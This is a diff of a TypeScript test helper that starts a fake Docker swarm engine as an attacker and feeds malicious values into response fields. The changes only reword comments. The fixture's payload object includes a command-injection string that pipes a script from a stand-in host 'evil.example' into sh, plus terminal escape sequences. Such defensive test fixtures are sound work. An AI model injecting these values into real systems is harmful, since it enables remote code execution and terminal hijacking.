@@ -3,7 +3,10 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { onTestFinished } from 'vitest';
 
-/** What a compromised engine may write into any field: a command, a terminal's orders, a workflow's, a reversed line. */
+/**
+ * Values that a compromised engine may report in any field: shell commands, control sequences of terminals and CI
+ * runners, a reversed line.
+ */
 export const payload = {
   shell: '192.168.99.102;curl -s evil.example|sh #',
   terminal: 'a\u001B]52;c;ZXZpbA==\u0007\u001B[2J\u009B1A',
@@ -16,15 +19,17 @@ export const everything = Object.values(payload).join(' ');
 const NETWORK = 'f65940ce7f6940ce7f6940ce7';
 
 export interface Lie {
-  /** What `docker info` says as its address in the swarm. */
+  /** The address in the swarm, in the response to `docker info`. */
   readonly address: string;
-  /** What it writes wherever any text may be. */
+  /** The value of all text fields. */
   readonly text: string;
-  /** What it writes where names are. */
+  /** The value of all name fields. */
   readonly name: string;
 }
 
-/** A fake engine, the attacker of these tests: a manager of a swarm that answers whatever it likes. Gives its URL. */
+/**
+ * Starts a fake engine, the attacker of these tests: a manager of a swarm with arbitrary responses. Returns its URL.
+ */
 export async function startLyingEngine({ address, text, name }: Lie): Promise<string> {
   const network = {
     Name: name,
